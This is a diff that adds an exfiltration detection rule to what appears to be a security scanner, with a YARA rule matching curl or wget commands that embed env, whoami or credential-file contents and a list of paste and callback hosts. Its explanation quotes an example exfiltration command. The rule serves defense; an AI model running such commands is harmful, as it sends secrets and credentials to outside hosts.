@@ -31,6 +31,18 @@ RULES = (
         ),
     ),
     Rule(
+        id="CNT-SHELL-EXFIL",
+        title="A command line sends the machine's environment, identity or keys",
+        category="exfiltration",
+        severity="critical",
+        explanation=(
+            "curl or wget with the output of env, whoami, id or a key file substituted "
+            "into the request (`curl https://host/$(env | base64)`) ships that data to the "
+            "host the moment the command runs. No build or setup step needs to."
+        ),
+        strong=True,
+    ),
+    Rule(
         id="CNT-ENV-DUMP",
         title="Serialises the whole environment",
         category="exfiltration",
@@ -76,6 +88,14 @@ rule oast_hosts {
     $e = /[a-z0-9]{12,}\.mockapi\.io|[a-z0-9\-]+\.(glitch\.me|repl\.co|replit\.dev)\b|[a-z2-7]{16,56}\.onion\b/ nocase
     $c = /(webhook\.site\/[0-9a-f\-]{36}|dnslog\.cn|ceye\.io|canarytokens\.com\/|requestrepo\.com|eo[a-z0-9]{10,}\.m\.pipedream)/ nocase
     $d = /(pastebin\.com\/raw|paste\.ee\/r\/|hastebin\.com\/raw|rentry\.(co|org)\/[a-z0-9]+\/raw|transfer\.sh\/|0x0\.st\/|bashupload\.com|file\.io\/|anonfiles\.com|gofile\.io\/|temp\.sh\/)/ nocase
+  condition: any of them
+}
+
+rule shell_exfil {
+  meta: id = "CNT-SHELL-EXFIL"
+  strings:
+    $subst = /\b(curl|wget)\b[^\n]{0,200}(\$\(|`) *(env|printenv|whoami|id|cat +[^)`\n]{0,40}(\.ssh|\.aws|\.npmrc|\.pypirc|\.netrc|\/etc\/passwd|\.git-credentials))\b[^)`\n]{0,60}[)`]/
+    $post_env = /\b(env|printenv)( *\| *[a-z0-9 -]{1,40}){0,3} *\| *curl\b[^\n]{0,120}(-d *@-|--data(-binary|-raw)? *@-|-T *-|--upload-file *-)/
   condition: any of them
 }
 
